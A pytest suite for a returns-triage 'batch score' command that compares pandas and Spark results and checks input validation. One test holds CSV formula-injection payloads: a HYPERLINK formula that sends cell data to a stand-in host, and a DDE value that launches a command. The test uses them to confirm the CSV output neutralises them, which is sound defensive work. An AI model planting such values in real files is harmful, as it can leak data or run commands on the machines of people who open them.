"""`triage batch score`: every return of a history export, on pandas and on Spark, through the one assembler.

A small synthetic history (60 customers) and small fitted models keep this to seconds on pandas; the
Spark case runs `local[1]` (a JVM start and one shuffle, well under a minute) and must give the very
same rows as pandas: same point-in-time features, reasons, risk scores and decisions.
"""

from __future__ import annotations

import contextlib
import gzip
import os
import re
import shutil
import signal
import subprocess
import time
from collections.abc import Iterator
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import httpx
import numpy as np
import pandas as pd
import pytest
from click.testing import Result
from typer.testing import CliRunner

from cli.app import app
from decisions.assessments import HISTORY_OUTPUT_COLUMNS, assess_history
from decisions.policy import load_policy
from features.history import FEATURE_COLUMNS, requests_from_returns, risk_features
from features.schemas import TABLES
from features.tables import HEADER_AGAIN, RowProblem, TableError, write_table
from features.taxonomy import REASON_CODES, REASONS
from models.reason_classifier import ReasonClassifier
from models.risk_model import RiskModel
from serving.history_export import read_assessments, read_export, write_assessments
from serving.stores.history_check import history_bounds
from tests.conftest import _synthetic_history
from triage.settings import REPO_ROOT, Settings

POLICY = load_policy(REPO_ROOT / "config" / "policy.yaml")


@pytest.fixture(scope="module")
def export_dir(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The history in the sample-data format (`<table>.csv.gz`)."""
    folder = tmp_path_factory.mktemp("export")
    for name, frame in _synthetic_history(seed=11, customers=60).items():
        # a shop's prices are in cents: `batch score` holds an export to it
        write_table(frame.round({"price": 2}), name, folder)
    return folder


@pytest.fixture(scope="module")
def models(export_dir: Path) -> tuple[ReasonClassifier, RiskModel]:
    """A TF-IDF reason classifier on a slice of the corpus and a small risk model on the history itself."""
    corpus = pd.concat(pd.read_csv(path) for path in sorted((REPO_ROOT / "data" / "corpus" / "en").glob("*.csv")))
    corpus = corpus.groupby("label").head(20)
    reasons = ReasonClassifier(kind="tfidf").fit(corpus["text"].tolist(), corpus["label"].tolist())
    tables = read_export(export_dir)
    family = {reason.code: reason.family.value for reason in REASONS}
    requests = requests_from_returns(tables).assign(
        reason_family=lambda frame: frame["label"].map(family), reason_confidence=1.0
    )
    features = risk_features(requests, tables, POLICY.quota_rule())
    risk = RiskModel(max_iter=20).fit(features[list(FEATURE_COLUMNS)], tables["returns"]["confirmed_abuse"])
    return reasons, risk


@pytest.fixture(scope="module")
def pandas_rows(export_dir: Path, models: Any) -> pd.DataFrame:
    return assess_history(read_export(export_dir), *models, POLICY, batch_size=64)


def test_every_return_is_assessed_once_with_reason_risk_and_decision(export_dir, pandas_rows) -> None:
    returns = read_export(export_dir)["returns"]
    assert list(pandas_rows.columns) == list(HISTORY_OUTPUT_COLUMNS)
    assert sorted(pandas_rows["return_id"]) == sorted(returns["return_id"])
    assert pandas_rows["reason"].notna().all() and pandas_rows["decision"].notna().all()
    assert pandas_rows["risk_score"].between(0, 1).all()
    assert pandas_rows["decision"].nunique() > 1 and pandas_rows["risk_band"].nunique() > 1


def test_a_ticked_reason_the_text_contradicts_is_decided_as_a_served_request_is(export_dir, models) -> None:
    tables = read_export(export_dir)
    reasons = models[0]
    returns = tables["returns"]
    read = reasons.predict_reasons(returns["reason_text"].tolist())
    # Tick, on every return, the reason its text gives least: contradicted wherever the reading is sure.
    ticked = [min(REASON_CODES, key=lambda code, p=p: dict(p.top3).get(code, 0.0)) for p in read]
    contradicted = returns.assign(form_reason_code=ticked)
    rows = assess_history(tables | {"returns": contradicted}, *models, POLICY, batch_size=64)
    mismatched = rows["rules"].str.contains("REASON_MISMATCH")
    sure = np.array([not p.needs_review for p in read])
    assert mismatched.to_numpy().tolist() == sure.tolist() and sure.any()
    assert rows.loc[mismatched, "warn"].all()
    # Ticking the reason each text gives: no mismatch anywhere.
    agreeing = returns.assign(form_reason_code=[p.reason for p in read])
    rows = assess_history(tables | {"returns": agreeing}, *models, POLICY, batch_size=64)
    assert not rows["rules"].str.contains("REASON_MISMATCH").any()


def test_a_history_return_is_decided_on_the_price_paid_as_a_served_request_is(export_dir, models) -> None:
    # `batch score` gave the policy the line item's list price, where the API's `price` is the price paid: an item
    # listed above the keep-item ceiling and sold below it was sent back where the service let the customer keep it
    tables = read_export(export_dir)
    listed_high = tables["line_items"].assign(price=30.0, discount=0.7)  # 9.00 paid: under the EUR and GBP ceilings
    rows = assess_history(tables | {"line_items": listed_high}, *models, POLICY, batch_size=64)
    low_in_window = rows["risk_band"].eq("low") & rows["rules"].str.contains("WITHIN_RETURN_WINDOW")
    assert low_in_window.any()
    assert rows.loc[low_in_window, "decision"].eq("keep_item").all(), rows.loc[low_in_window, "rules"].tolist()


def test_parquet_export_and_csv_output_round_trip(export_dir, models, pandas_rows, tmp_path) -> None:
    """The same history as Parquet partitions gives the same rows; written CSV reads back the same."""
    parquet = tmp_path / "parquet"
    for name, frame in read_export(export_dir).items():
        (parquet / name).mkdir(parents=True)
        frame.to_parquet(parquet / name / "part-0.parquet", index=False)
    from_parquet = assess_history(read_export(parquet), *models, POLICY, batch_size=64)
    pd.testing.assert_frame_equal(from_parquet, pandas_rows)
    write_assessments(pandas_rows, tmp_path / "out", "csv")
    written = read_assessments(tmp_path / "out")
    assert written["decision"].tolist() == pandas_rows.sort_values("return_id")["decision"].tolist()


FORMULAS = {"return_id": '=HYPERLINK("http://x.example/?"&A1,"click")', "customer_id": "@SUM(1+1)*cmd|' /C calc'!A0"}


def _with_formula_ids(rows: pd.DataFrame) -> pd.DataFrame:
    """`rows` whose first return has ids a spreadsheet would run: a shop's export holds ids as its system wrote them."""
    rows = rows.copy()
    for column, formula in FORMULAS.items():
        rows.loc[rows.index[0], column] = formula
    return rows


def _written_cells(output: Path) -> list[str]:
    return [
        cell for part in sorted(output.glob("part-*.csv")) for cell in pd.read_csv(part, dtype=str).iloc[:, :2].stack()
    ]


def test_a_csv_of_assessments_writes_no_cell_a_spreadsheet_would_run(pandas_rows, tmp_path) -> None:
    # `batch score --format csv` wrote the export's ids as they came: `=HYPERLINK(...)` ran when the file was opened
    write_assessments(_with_formula_ids(pandas_rows), tmp_path / "out", "csv")
    cells = _written_cells(tmp_path / "out")
    assert {f"'{formula}" for formula in FORMULAS.values()} <= set(cells)
    assert not set(FORMULAS.values()) & set(cells)


def test_since_assesses_only_the_later_returns_as_the_full_run_does(export_dir, models, pandas_rows) -> None:
    """A backfill of recent returns: the same rows as assessing everything, for the returns it keeps."""
    since = pandas_rows["request_ts"].sort_values().iloc[len(pandas_rows) // 2]
    recent = assess_history(read_export(export_dir), *models, POLICY, batch_size=64, since=since)
    expected = pandas_rows[pandas_rows["request_ts"] >= since]
    assert 0 < len(recent) == len(expected) < len(pandas_rows)
    pd.testing.assert_frame_equal(
        recent.sort_values("return_id").reset_index(drop=True),
        expected.sort_values("return_id").reset_index(drop=True),
    )


def test_cli_names_a_bad_since(export_dir: Path, tmp_path: Path) -> None:
    arguments = ["batch", "score", "-i", str(export_dir), "-o", str(tmp_path / "o"), "--since", "last week"]
    result = CliRunner().invoke(app, arguments)
    assert result.exit_code == 2
    assert "Invalid value for '--since'" in " ".join(result.output.split())


def test_cli_names_the_missing_table(tmp_path: Path) -> None:
    (tmp_path / "export").mkdir()
    result = CliRunner().invoke(app, ["batch", "score", "-i", str(tmp_path / "export"), "-o", str(tmp_path / "o")])
    assert result.exit_code == 2
    assert "table 'customers' not found" in " ".join(result.output.split())


def _spoiled(export_dir: Path, folder: Path, table: str, column: str, value: str) -> tuple[Path, str]:
    """A copy of the export with `value` in the first row's `column` of `table`, and that row's id."""
    spoiled = shutil.copytree(export_dir, folder / "export")
    path = spoiled / f"{table}.csv.gz"
    frame = pd.read_csv(path, dtype=str, keep_default_na=False)
    frame.loc[0, column] = value
    frame.to_csv(path, index=False, compression="gzip")
    return spoiled, str(frame.iat[0, 0])


@pytest.mark.parametrize(
    ("table", "column", "value"),
    [
        ("line_items", "price", "250000.0"),  # above max_item_price (100,000)
        ("orders", "order_ts", "1999-12-31 23:00:00"),  # before shop_founded (2000-01-01)
        ("returns", "request_ts", "2030-01-01 00:00:00"),  # in the future
        ("returns", "request_ts", "2999-01-01 00:00:00"),  # past the years pandas holds
    ],
)
def test_cli_holds_an_export_to_the_shops_bounds_as_data_load_does(
    export_dir: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, table: str, column: str, value: str
) -> None:
    # the export was read unbounded: a price of 250,000 promised such a refund, where predict risk refused it
    spoiled, _ = _spoiled(export_dir, tmp_path, table, column, value)
    # refused before any model is used
    monkeypatch.setattr("cli.batch.load_champion_or_exit", lambda settings, name: None)
    result = CliRunner().invoke(app, ["batch", "score", "-i", str(spoiled), "-o", str(tmp_path / "o")])
    said = " ".join(result.output.split())
    assert result.exit_code == 2 and f"{table}.{column} line 2: '{value}'" in said, said
    # a date in the accepted forms is said as outside the bounds, not as no date
    assert "accepted forms" not in said and ("not between 2000-01-01 and" in said or column == "price"), said
    assert not (tmp_path / "o").exists() or not any((tmp_path / "o").iterdir())


def _spoil_orders(export: Path, spoil: str) -> None:
    """Spoil the export's orders file the ways a transfer or a careless export does."""
    orders = export / "orders.csv.gz"
    packed = orders.read_bytes()
    text = gzip.decompress(packed)
    orders.write_bytes(
        {
            "not gzipped": text,
            "cut short": packed[: len(packed) // 2],
            "in UTF-16": gzip.compress(text.decode().encode("utf-16")),
            "in Latin-1": gzip.compress(text + "C9,Ren\xe9e,FR,fr,2020-01-01 00:00:00,honest\n".encode("latin-1")),
            "a gzip of zeros": gzip.compress(b"\x00" * 2**20),
            "empty": gzip.compress(b""),
            "with its header on line 7": gzip.compress(b"".join([*text.splitlines(True)[:6], *text.splitlines(True)])),
            "with currency named twice": gzip.compress(text.replace(b",currency\n", b",currency,currency\n", 1)),
            "with Currency after currency": gzip.compress(text.replace(b",currency\n", b",currency,Currency\n", 1)),
        }[spoil]
    )


SPOILED_FILES = ["not gzipped", "cut short", "in UTF-16", "in Latin-1", "a gzip of zeros", "empty"]


@pytest.mark.parametrize("spoil", SPOILED_FILES)
def test_cli_names_an_export_file_it_cannot_read(
    export_dir: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, spoil: str
) -> None:
    # batch score read each table with pandas alone: a traceback (BadGzipFile, UnicodeDecodeError, EmptyDataError), or
    # click's bare "Aborted!" for a file cut short (an EOFError), where data load names the table and the file
    export = shutil.copytree(export_dir, tmp_path / "export")
    _spoil_orders(export, spoil)
    monkeypatch.setattr("cli.batch.load_champion_or_exit", lambda settings, name: None)
    result = CliRunner().invoke(app, ["batch", "score", "-i", str(export), "-o", str(tmp_path / "o")])
    said = " ".join(result.output.split())
    assert result.exit_code == 2 and isinstance(result.exception, SystemExit), said
    assert said.startswith(f"error: table 'orders' in {export / 'orders.csv.gz'} ") and len(said) < 300, said


def test_cli_names_a_parquet_file_it_cannot_read(export_dir: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    export = tmp_path / "export"
    for name, frame in read_export(export_dir).items():
        frame.to_parquet(tmp_path / f"{name}.parquet")
        (export / name).mkdir(parents=True)
        (export / name / "part-0.parquet").write_bytes((tmp_path / f"{name}.parquet").read_bytes()[:100])
    monkeypatch.setattr("cli.batch.load_champion_or_exit", lambda settings, name: None)
    result = CliRunner().invoke(app, ["batch", "score", "-i", str(export), "-o", str(tmp_path / "o")])
    said = " ".join(result.output.split())
    assert result.exit_code == 2 and isinstance(result.exception, SystemExit), said
    assert said.startswith(f"error: table 'customers' in {export / 'customers' / 'part-0.parquet'} cannot be read"), (
        said
    )


@pytest.mark.parametrize("given", ["missing", "a file"])
def test_cli_names_an_input_that_is_no_folder(tmp_path: Path, given: str) -> None:
    # a missing folder, or a file, was "table 'customers' not found in ...", as if a folder lacked a table
    export = tmp_path / "export"
    if given == "a file":
        export.write_text("customer_id\nC1\n", encoding="utf-8")
    result = CliRunner().invoke(app, ["batch", "score", "-i", str(export), "-o", str(tmp_path / "o")])
    assert result.exit_code == 2
    assert f"--input {export} is not a folder" in " ".join(result.output.split())


@pytest.mark.parametrize("output", ["export", "."], ids=["the-input", "its-parent"])
def test_cli_refuses_an_output_folder_holding_the_input(tmp_path: Path, output: str) -> None:
    """The output's part-* files are replaced, and Spark's overwrite empties the whole folder: `-o` the
    export folder (or a folder above it) would have deleted the export being read."""
    export = tmp_path / "export"
    export.mkdir()
    (export / "customers.csv").write_text("customer_id\nC1\n", encoding="utf-8")
    result = CliRunner().invoke(app, ["batch", "score", "-i", str(export), "-o", str(tmp_path / output)])
    assert result.exit_code == 2 and "holds the input" in " ".join(result.output.split())
    assert (export / "customers.csv").read_text(encoding="utf-8") == "customer_id\nC1\n"


# How Spark says which port a service of a master or worker bound (`Utils.startServiceOnPort`), and which port the
# master's REST server for submitting applications bound (it names no service).
STARTED_ON_PORT = r"Successfully started service '{}' on port (\d+)"
REST_STARTED_ON_PORT = r"Started REST server for submitting applications on \S+ with port (\d+)"
# The master's REST server binds Spark's fixed 6066 unless told otherwise (`spark.master.rest.port`).
SPARK_REST_PORT = 6066


def _started_port(log: Path, started: str, process: subprocess.Popen[bytes], deadline: float) -> int:
    """The port `process` says in `log` that a service bound (`started`, a pattern whose group is the port); fails the
    test when it exits or stays silent."""
    while time.monotonic() < deadline and process.poll() is None:
        if found := re.search(started, log.read_text(errors="replace")):
            return int(found.group(1))
        time.sleep(0.5)
    pytest.fail(f"Spark named no port for {started!r} (exit code {process.poll()}):\n{log.read_text()[-2000:]}")


@contextlib.contextmanager
def standalone_cluster(folder: Path) -> Iterator[str]:
    """A Spark standalone master and one worker (1 core, 1 GB) on loopback, started the way
    `docs/SCALING.md` starts them; yields the master's URL and stops both (and the worker's executor).

    Each binds ports the kernel picks as it binds them (port 0), read from its log: ports chosen free beforehand
    could be taken by another process before the JVM bound them, and the master failed to start. So does the
    master's REST server (`SPARK_MASTER_OPTS`), which bound Spark's fixed 6066, shared by every cluster started on
    the machine."""
    import pyspark

    spark_class = str(Path(pyspark.__file__).parent / "bin" / "spark-class")
    deadline = time.monotonic() + 180
    processes: list[subprocess.Popen[bytes]] = []

    def start(name: str, *arguments: str) -> subprocess.Popen[bytes]:
        with (folder / f"{name}.log").open("w") as log:
            command = [spark_class, *arguments, "--host", "127.0.0.1", "--webui-port", "0"]
            processes.append(
                subprocess.Popen(
                    command,
                    stdout=log,
                    stderr=subprocess.STDOUT,
                    start_new_session=True,
                    env=os.environ | {"SPARK_MASTER_OPTS": "-Dspark.master.rest.port=0"},
                )
            )
        return processes[-1]

    try:
        master = start("master", "org.apache.spark.deploy.master.Master", "--port", "0")
        port = _started_port(folder / "master.log", STARTED_ON_PORT.format("sparkMaster"), master, deadline)
        master_ui = _started_port(folder / "master.log", STARTED_ON_PORT.format("MasterUI"), master, deadline)
        assert _started_port(folder / "master.log", REST_STARTED_ON_PORT, master, deadline) != SPARK_REST_PORT
        url = f"spark://127.0.0.1:{port}"
        worker = ["org.apache.spark.deploy.worker.Worker", url, "--cores", "1", "--memory", "1g"]
        start("worker", *worker, "--work-dir", str(folder / "work"))
        # Until the worker has registered, a job would wait for resources without end.
        while time.monotonic() < deadline:
            with contextlib.suppress(httpx.HTTPError):
                if httpx.get(f"http://127.0.0.1:{master_ui}/json/", timeout=5).json().get("aliveworkers") == 1:
                    break
            time.sleep(1)
        else:
            logs = "\n".join(path.read_text()[-2000:] for path in sorted(folder.glob("*.log")))
            pytest.fail(f"no Spark worker registered with {url} in 180 s:\n{logs}")
        yield url
    finally:
        for process in processes:
            with contextlib.suppress(ProcessLookupError):
                os.killpg(process.pid, signal.SIGTERM)
            process.wait(timeout=60)


@pytest.fixture(scope="module", params=["local[1]", pytest.param("standalone", marks=pytest.mark.on_demand)])
def spark(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Any]:
    """A Spark session on `local[1]`, or on a standalone cluster on this machine (a real master URL, an
    executor in its own JVM; `slow`: the `local[1]` case covers the same code in seconds). Java and
    pyspark come from `.ci/services.sh` and the project's extras."""
    if shutil.which("java") is None:
        if os.environ.get("CI"):
            pytest.fail("no java in CI: .ci/services.sh must install it")
        pytest.skip("no java; run `bash .ci/services.sh`")
    from serving.spark_scoring import spark_session

    with contextlib.ExitStack() as stack:
        master = request.param
        environment = stack.enter_context(pytest.MonkeyPatch.context())
        if master == "standalone":
            master = stack.enter_context(standalone_cluster(tmp_path_factory.mktemp("spark-cluster")))
            # The interpreter of the cluster's Python workers must come from `spark_session` (the
            # `local[1]` session may have set it already in this process).
            environment.delenv("PYSPARK_PYTHON", raising=False)
        session = spark_session(master, tmp_path_factory.mktemp("spark-log") / "spark.log", "returns-triage tests")
        stack.callback(session.stop)
        yield session


@pytest.mark.parametrize("recent", [False, True], ids=["all", "since"])
def test_spark_gives_the_same_rows_as_pandas(spark, export_dir, models, pandas_rows, tmp_path, recent) -> None:
    from serving.spark_scoring import assess_export, write_assessments

    since = pandas_rows["request_ts"].sort_values().iloc[len(pandas_rows) // 2] if recent else None
    assessed = assess_export(spark, export_dir, *models, POLICY, buckets=3, since=since)
    write_assessments(assessed, tmp_path / "spark", "parquet")
    on_spark = read_assessments(tmp_path / "spark")
    on_pandas = pandas_rows[pandas_rows["request_ts"] >= since] if recent else pandas_rows
    on_pandas = on_pandas.assign(request_ts=on_pandas["request_ts"].dt.strftime("%Y-%m-%d %H:%M:%S"))
    on_pandas = on_pandas.sort_values("return_id").reset_index(drop=True)
    assert len(on_spark) == len(on_pandas) > 25
    for column in HISTORY_OUTPUT_COLUMNS:
        if column in {"reason_confidence", "risk_score"}:
            np.testing.assert_allclose(on_spark[column], on_pandas[column], rtol=0, atol=1e-9, err_msg=column)
        else:
            assert on_spark[column].tolist() == on_pandas[column].tolist(), column


def test_spark_writes_a_csv_of_assessments_spreadsheet_safe_as_pandas_does(spark, pandas_rows, tmp_path) -> None:
    from serving.spark_scoring import OUTPUT_SCHEMA, write_assessments

    rows = _with_formula_ids(pandas_rows)[list(HISTORY_OUTPUT_COLUMNS)]
    rows = rows.assign(request_ts=rows["request_ts"].dt.strftime("%Y-%m-%d %H:%M:%S"))
    write_assessments(spark.createDataFrame(rows, schema=OUTPUT_SCHEMA), tmp_path / "spark", "csv")
    cells = _written_cells(tmp_path / "spark")
    assert {f"'{formula}" for formula in FORMULAS.values()} <= set(cells)
    assert not set(FORMULAS.values()) & set(cells)


def _score_refused_before_the_models(
    spark: Any, monkeypatch: pytest.MonkeyPatch, export: Path, output: Path, engine: str = "spark"
) -> Result:
    """`batch score` of `export` on the module's Spark session (kept for the other tests) or pandas, with champions
    that hold no model: the export is refused before any model is used."""
    champion = SimpleNamespace(model=None, name="m", version=1)
    monkeypatch.setattr("cli.batch.load_champion_or_exit", lambda settings, name: champion)
    monkeypatch.setattr("serving.spark_scoring.spark_session", lambda master, log: spark)
    monkeypatch.setattr(spark, "stop", lambda: None)
    return CliRunner().invoke(app, ["batch", "score", "-i", str(export), "-o", str(output), "--engine", engine])


REFUSED_ON_SPARK = [
    ("returns", "lang", "xx", "not one of en, fr"),
    ("line_items", "price", "250000.0", "not a number between 0 and 100,000"),  # above max_item_price
    ("returns", "request_ts", "2999-01-01 00:00:00", "not between 2000-01-01 and"),  # past the years pandas holds
]


@pytest.mark.slow
@pytest.mark.parametrize(("table", "column", "value", "why"), REFUSED_ON_SPARK)
def test_spark_refuses_a_value_on_one_line_as_pandas_does(
    spark: Any,
    export_dir: Path,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    table: str,
    column: str,
    value: str,
    why: str,
) -> None:
    # it failed inside an executor and the command ended with Spark's traceback, after emptying the output folder
    spoiled, row_id = _spoiled(export_dir, tmp_path, table, column, value)
    (tmp_path / "o").mkdir()
    (tmp_path / "o" / "part-00000.parquet").write_bytes(b"earlier run")
    result = _score_refused_before_the_models(spark, monkeypatch, spoiled, tmp_path / "o")
    lines = result.output.strip().splitlines()
    said = " ".join(result.output.split())
    assert result.exit_code == 2 and len(lines) == 1 and isinstance(result.exception, SystemExit), said
    id_column = TABLES[table][0].name
    assert f"error: 1 bad value: {table}.{column} at {id_column} '{row_id}': '{value}'" in said and why in said, said
    assert [path.name for path in (tmp_path / "o").iterdir()] == ["part-00000.parquet"]


@pytest.mark.slow
def test_a_header_repeated_mid_file_is_refused_by_both_engines_in_the_same_words(
    spark: Any, export_dir: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Spark read the pasted header as a row and refused its names value by value ("customers.preferred_lang at
    # customer_id 'customer_id': 'preferred_lang' ..."), where pandas names the file and the repeated header
    export = shutil.copytree(export_dir, tmp_path / "export")
    _spoil_orders(export, "with its header on line 7")
    results = {
        engine: _score_refused_before_the_models(spark, monkeypatch, export, tmp_path / engine, engine)
        for engine in ("pandas", "spark")
    }
    place = f"error: table 'orders' in {export / 'orders.csv.gz'}:"
    assert {engine: (result.exit_code, result.output) for engine, result in results.items()} == {
        "pandas": (2, f"{place} line 7 {HEADER_AGAIN}\n"),
        "spark": (2, f"{place} a line {HEADER_AGAIN}\n"),  # Spark numbers no lines
    }
    assert not (tmp_path / "pandas").exists() or not any((tmp_path / "pandas").iterdir())
    assert not (tmp_path / "spark").exists() or not any((tmp_path / "spark").iterdir())


@pytest.mark.slow
@pytest.mark.parametrize(
    ("spoil", "names"),
    [
        ("with currency named twice", "'currency' names"),
        ("with Currency after currency", "'currency' and 'Currency' name"),
    ],
)
def test_a_column_named_twice_is_refused_by_both_engines_in_the_same_words(
    spark: Any, export_dir: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, spoil: str, names: str
) -> None:
    # Spark renamed both ("currency4", "currency5", in any case) and said "table 'orders' in EXPORT is missing columns:
    # currency"; pandas read "Currency" as a column of no use, and the first of two "currency" columns
    export = shutil.copytree(export_dir, tmp_path / "export")
    _spoil_orders(export, spoil)
    results = {
        engine: _score_refused_before_the_models(spark, monkeypatch, export, tmp_path / engine, engine)
        for engine in ("pandas", "spark")
    }
    said = f"error: table 'orders' in {export / 'orders.csv.gz'}: {names} columns 5 and 6: a header names each column"
    assert {engine: (result.exit_code, result.output) for engine, result in results.items()} == {
        engine: (2, f"{said} once\n") for engine in ("pandas", "spark")
    }


def _requested_before_delivery(export_dir: Path, folder: Path) -> tuple[Path, str, str]:
    """A copy of the export whose first return of an order delivered two days or more after it was placed is
    requested the day before the delivery; the copy, that return's id and its request_ts as written."""
    spoiled = shutil.copytree(export_dir, folder / "export")
    path = spoiled / "returns.csv.gz"
    returns = pd.read_csv(path, dtype=str, keep_default_na=False)
    orders = pd.read_csv(spoiled / "orders.csv.gz", dtype=str, keep_default_na=False).set_index("order_id")
    placed, delivered = (
        pd.to_datetime(returns["order_id"].map(orders[column])) for column in ("order_ts", "delivery_ts")
    )
    row = int(np.flatnonzero((delivered - placed >= pd.Timedelta(days=2)).to_numpy())[0])
    value = (delivered.iat[row] - pd.Timedelta(days=1)).strftime("%Y-%m-%d %H:%M:%S")
    returns.loc[row, "request_ts"] = value
    returns.to_csv(path, index=False, compression="gzip")
    return spoiled, returns.at[row, "return_id"], value


def test_a_return_requested_the_day_before_its_delivery_is_refused_as_data_load_does(
    export_dir: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # decided free_return "within the return window" on -1 days, where the API and `data load` refuse it
    spoiled, _, value = _requested_before_delivery(export_dir, tmp_path)
    monkeypatch.setattr("cli.batch.load_champion_or_exit", lambda settings, name: None)
    result = CliRunner().invoke(app, ["batch", "score", "-i", str(spoiled), "-o", str(tmp_path / "o")])
    said = " ".join(result.output.split())
    assert result.exit_code == 2 and "returns.request_ts line" in said and f"'{value}'" in said, said
    assert "is on a day before its order's delivery_ts" in said, said
    assert not (tmp_path / "o").exists() or not any((tmp_path / "o").iterdir())


@pytest.mark.slow
def test_spark_refuses_a_return_requested_the_day_before_its_delivery_as_pandas_does(
    spark: Any, export_dir: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    spoiled, return_id, value = _requested_before_delivery(export_dir, tmp_path)
    result = _score_refused_before_the_models(spark, monkeypatch, spoiled, tmp_path / "o")
    said = " ".join(result.output.split())
    assert result.exit_code == 2 and f"returns.request_ts at return_id '{return_id}': '{value}'" in said, said
    assert "is on a day before its order's delivery_ts" in said, said


def test_a_chunk_of_csv_rows_gives_a_repeated_header_as_its_file_and_checks_the_other_rows() -> None:
    from serving.spark_scoring import refusals

    names = list(TABLES["customers"])
    header = {column.name: column.name for column in names}
    good = {"customer_id": "C1", "first_name": "Ann", "country": "GB", "preferred_lang": "en",
            "created_at": "2024-01-01 10:00:00", "behaviour": "regular"}  # fmt: skip
    chunk = pd.DataFrame([good, header, good | {"customer_id": "C2", "preferred_lang": "xx"}]).assign(
        _file="file:///export/customers.csv.gz"
    )
    found = pd.concat(refusals("customers", None)(iter([chunk])), ignore_index=True)
    assert found[["column", "value", "problem", "row_id"]].to_dict("records") == [
        {"column": "", "value": "file:///export/customers.csv.gz", "problem": HEADER_AGAIN, "row_id": ""},
        {"column": "preferred_lang", "value": "xx", "problem": "not one of en, fr", "row_id": "C2"},
    ]


@pytest.mark.parametrize(("table", "column", "value", "why"), REFUSED_ON_SPARK)
def test_a_chunk_of_spark_rows_gives_each_refused_value_with_its_row_id(
    export_dir: Path, table: str, column: str, value: str, why: str
) -> None:
    """What each executor sends home: Spark numbers no lines, so a refused value is placed by its row's id."""
    from serving.spark_scoring import refusals

    rows = pd.read_csv(export_dir / f"{table}.csv.gz", dtype=str, keep_default_na=False)
    rows.loc[3, column] = value
    chunks = [rows.iloc[:2].replace("", None), rows.iloc[2:].replace("", None)]  # Spark's empty cells are null
    found = pd.concat(refusals(table, history_bounds(Settings()))(iter(chunks)), ignore_index=True)
    assert found.to_dict("records") == [
        {"table": table, "line": 0, "column": column, "value": value, "problem": found["problem"].iat[0],
         "row_id": rows.iat[3, 0]}
    ]  # fmt: skip
    assert found["problem"].iat[0].startswith(why)
    said = str(TableError([RowProblem(**found.iloc[0].to_dict())], {(table, column, found["problem"].iat[0]): 7}))
    assert said.startswith(f"7 bad values: {table}.{column} at {TABLES[table][0].name} '{rows.iat[3, 0]}': '{value}'")
    assert said.endswith(f"(7 values: {found['problem'].iat[0]})")


@pytest.mark.slow
@pytest.mark.parametrize("spoil", ["cut short", "not gzipped"])
def test_spark_names_an_export_file_no_executor_could_read_on_one_line(
    spark: Any, export_dir: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, spoil: str
) -> None:
    # the command ended with a Py4JJavaError's traceback, hundreds of lines of Java stack
    export = shutil.copytree(export_dir, tmp_path / "export")
    _spoil_orders(export, spoil)
    result = _score_refused_before_the_models(spark, monkeypatch, export, tmp_path / "o")
    lines = result.output.strip().splitlines()
    said = " ".join(result.output.split())
    assert result.exit_code == 1 and len(lines) == 1 and isinstance(result.exception, SystemExit), said
    assert said.startswith("error: the Spark job failed: ") and f"{export / 'orders.csv.gz'}" in said, said
    assert re.search(r"; Spark's log: \S+/logs/spark-batch-score-\d{8}T\d{6}Z-\d+\.log$", said), said
    assert not (tmp_path / "o").exists() or not any((tmp_path / "o").iterdir())


def test_what_the_jvm_says_goes_to_the_spark_log_and_not_above_the_message(
    tmp_path: Path, capfd: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """Spark's start-up warnings and a failed task's Java stack (242 lines for an export file cut short) came on
    stderr before the command's one-line message: the JVM, started while the session is made, writes to the log."""
    from pyspark.sql import SparkSession

    from serving.spark_scoring import spark_session

    def start_the_jvm(builder: Any) -> str:  # a child started here, as spark-submit is: its output is the JVM's
        subprocess.run(["sh", "-c", "echo 'WARN NativeCodeLoader: Unable to load' >&2; echo 'on stdout'"], check=True)
        return "session"

    monkeypatch.setattr(SparkSession.Builder, "getOrCreate", start_the_jvm)
    log = tmp_path / "logs" / "spark.log"
    assert spark_session("local[1]", log) == "session"
    said = capfd.readouterr()
    assert said.out == said.err == ""
    assert log.read_text().splitlines() == ["WARN NativeCodeLoader: Unable to load", "on stdout"]
    print("after the session")  # this process's own output is back on the terminal
    assert capfd.readouterr().out == "after the session\n"


def test_a_failed_spark_job_is_said_by_its_first_cause_and_its_innermost_one() -> None:
    def java(text: str, cause: Any = None) -> Any:
        return SimpleNamespace(toString=lambda: text, getCause=lambda: cause)

    from serving.spark_scoring import failure_line

    read = "org.apache.spark.SparkException: [FAILED_READ_FILE.NO_HINT] Encountered error while reading file f.gz.  "
    chain = java(
        "org.apache.spark.SparkException: Job aborted due to stage failure: Task 1 in stage 4.0 failed\n\tat x",
        java(read + "SQLSTATE: KD001", java("java.lang.IllegalStateException", java("java.io.EOFException: cut"))),
    )
    assert failure_line(SimpleNamespace(java_exception=chain)) == (
        "[FAILED_READ_FILE.NO_HINT] Encountered error while reading file f.gz. (java.io.EOFException: cut)"
    )
    assert failure_line(ValueError("[PATH_NOT_FOUND] Path does not exist: x.\nJVM stacktrace: ...")) == (
        "[PATH_NOT_FOUND] Path does not exist: x."
    )


@pytest.mark.parametrize(
    ("master", "here"),
    [
        ("local[2]", True),
        ("spark://127.0.0.1:7077", True),
        ("spark://localhost:7077", True),
        ("spark://spark-master.internal:7077", False),
        ("yarn", False),
    ],
)
def test_only_local_and_loopback_masters_get_this_interpreter_and_a_loopback_driver(master: str, here: bool) -> None:
    """A remote cluster's nodes have their own interpreter path and must reach the driver by its address."""
    from serving.spark_scoring import executors_on_this_machine

    assert executors_on_this_machine(master) is here
